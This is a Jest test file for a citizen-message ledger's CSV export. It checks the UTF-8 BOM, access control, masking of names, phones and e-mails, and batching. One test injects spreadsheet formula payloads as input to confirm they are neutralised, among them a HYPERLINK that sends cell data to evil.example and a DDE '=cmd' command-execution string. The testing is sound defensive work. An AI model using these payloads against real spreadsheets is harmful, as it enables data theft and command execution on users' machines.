/**
 * The message ledger (台账) as CSV: the same messages as the list with the same filter, in a file Excel
 * opens (UTF-8 with BOM), personal data masked, authorised like the API, streamed in batches.
 */
import { parse } from 'csv-parse/sync';
import { codeOf } from './helpers';
import { ok, worldPerFile } from './workflow-helpers';

const serials: Record<string, string> = {};

const CREATE = `mutation($i: CreateMessageInput!) { createMessage(input: $i) { message { id serialNo } } }`;
const ASSIGN = `mutation($i: AssignMessageInput!) { assignMessage(input: $i) { message { id } } }`;
const LIST = `query($f: MessageFilter) { messages(filter: $f, first: 100) { totalCount nodes { serialNo } } }`;

const { s, w } = worldPerFile({}, { timeout: 60_000 });
/** createMessage by the dispatcher: the new message's id and serial number. */
const createMessage = async (input: Record<string, unknown>): Promise<{ id: string; serialNo: string }> =>
  (await ok(s.gql(CREATE, { i: input }, w.t.dispatcher))).createMessage.message;
beforeAll(async () => {
  for (let i = 0; i < 12; i++) {
    const type = i % 3 === 0 ? 'COMPLAIN' : 'CONSULT';
    const m = await createMessage({
      channel: 'WEB',
      type,
      title: `台账导出测试${i}，含逗号,和"引号"`,
      content: '导出测试的留言内容，足够长的内容。',
      realName: '张三丰',
      phone: `1380013${String(i).padStart(4, '0')}`,
    });
    serials[m.id] = m.serialNo;
    if (i < 4) await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: w.unit['hn-cs-zjj'] } }, w.t.dispatcher));
  }
}, 60_000);

const download = async (query: string, token?: string) => {
  const res = await fetch(`${s.url}/export/messages.csv${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  const bytes = Buffer.from(await res.arrayBuffer());
  return { res, bytes, records: res.status === 200 ? (parse(bytes.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>) : [] };
};

test('the ledger export lists the same messages as the list with the same filter, masked, with a BOM', async () => {
  const { res, bytes, records } = await download('?types=COMPLAIN', w.t.dispatcher);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/text\/csv/);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const list = (await ok(s.gql(LIST, { f: { types: ['COMPLAIN'] } }, w.t.dispatcher))).messages;
  expect(records.map((r) => r.serialNo).sort()).toEqual(list.nodes.map((n: any) => n.serialNo).sort());
  expect(records.length).toBe(list.totalCount);
  const one = records.find((r) => r.title === '台账导出测试0，含逗号,和"引号"')!;
  expect(one).toMatchObject({
    type: '投诉',
    channel: '网站',
    citizen: '张**',
    phone: '138****0000',
    state: 'ASSIGNED',
    leadUnit: '长沙市住房和城乡建设局',
    overdue: '否',
  });
  expect(bytes.toString('utf8')).not.toContain('张三丰');
  expect(bytes.toString('utf8')).not.toContain('13800130000');
});

test("a unit handler's export holds only what it may see; bad filters and missing tokens are refused", async () => {
  const mine = await download('', w.t.handler);
  const list = (await ok(s.gql(LIST, {}, w.t.handler))).messages;
  expect(mine.records.map((r) => r.serialNo).sort()).toEqual(list.nodes.map((n: any) => n.serialNo).sort());
  expect(mine.records.length).toBe(4);
  expect((await download('')).res.status).toBe(401);
  const bad = await download('?states=LOST', w.t.dispatcher);
  expect(bad.res.status).toBe(400);
  expect(JSON.parse(bad.bytes.toString()).errors[0].extensions.code).toBe('BAD_USER_INPUT');
  expect(codeOf({ errors: JSON.parse((await download('?unitId=999999', w.t.dispatcher)).bytes.toString()).errors } as never)).toBe('BAD_USER_INPUT');
});

test('the title in the ledger export is masked like the public views (every spelling of a phone, an e-mail, a plate)', async () => {
  const m = await createMessage({
    channel: 'WEB',
    type: 'CONSULT',
    title: '回电+86 139 1234 5670、0731-88886666、lisi@qq.com、湘A12345',
    content: '标题里写了联系方式的留言。',
    realName: '王五',
  });
  const { records, bytes } = await download('?types=CONSULT', w.t.dispatcher);
  expect(records.find((r) => r.serialNo === m.serialNo)?.title).toBe('回电139****5670、073****6666、l***@qq.com、湘A*****');
  expect(bytes.toString('utf8')).not.toMatch(/1234 5670|88886666|lisi@|A12345/);
});

test('no cell of an export can run as a spreadsheet formula (= + - @, tab, carriage return), masked values included', async () => {
  const titles = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+SUM(1,2)', '-2+3', '@SUM(A1:A9)', ' =1+1'];
  const made: Record<string, string> = {};
  for (const title of titles) {
    const m = await createMessage({
      channel: 'LETTER',
      type: 'SUGGEST',
      title,
      content: '公式注入测试的留言内容。',
      realName: "=cmd|' /C calc'!A0",
      phone: '13800138000',
    });
    made[m.serialNo] = title.trim();
  }
  const { records, bytes } = await download('?channels=LETTER', w.t.dispatcher);
  expect(records.length).toBe(titles.length);
  for (const r of records) {
    expect(r.title).toBe(`'${made[r.serialNo]}`);
    expect(r.citizen).toBe("'=***"); // the masked name still started with =
  }
  // No cell of the file starts with a formula character.
  const cells = parse(bytes.subarray(3).toString('utf8')) as string[][];
  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  // The statistics export too: a unit named like a formula is written as text.
  const unit = (
    await ok(
      s.gql(
        `mutation($i: CreateUnitInput!) { createUnit(input: $i) { unit { id } } }`,
        { i: { code: 'formula-unit', name: '=1+2', kind: 'DEPARTMENT', parentId: w.unit['hn-cs'] } },
        w.t.admin,
      ),
    )
  ).createUnit.unit;
  const m = await createMessage({ channel: 'WEB', type: 'COMPLAIN', title: '统计导出公式测试', content: '统计导出公式测试的留言内容。' });
  await ok(s.gql(ASSIGN, { i: { messageId: m.id, leadUnitId: unit.id } }, w.t.dispatcher));
  const day = new Date(Date.now() + 8 * 3600_000).toISOString().slice(0, 10);
  const res = await fetch(`${s.url}/export/statistics.csv?from=${day}&to=${day}&groupBy=UNIT`, { headers: { authorization: `Bearer ${w.t.dispatcher}` } });
  expect(res.status).toBe(200);
  const stats = parse(
    Buffer.from(await res.arrayBuffer())
      .subarray(3)
      .toString('utf8'),
    { columns: true },
  ) as Array<Record<string, string>>;
  expect(stats.find((r) => r.key === unit.id)?.label).toBe("'=1+2");
});

test('the ledger is read in batches by key: small batches give the same rows as one', async () => {
  const viewer = await s.app.services.auth.viewerFromToken(w.t.dispatcher);
  const collect = async (size: number) => {
    const ids: number[] = [];
    for await (const batch of s.app.services.messages.ledger(viewer!, {}, size)) {
      expect(batch.length).toBeLessThanOrEqual(size);
      ids.push(...batch.map((m) => m.id));
    }
    return ids;
  };
  const all = await collect(1000);
  expect(all.length).toBeGreaterThanOrEqual(12);
  expect(await collect(5)).toEqual(all);
});
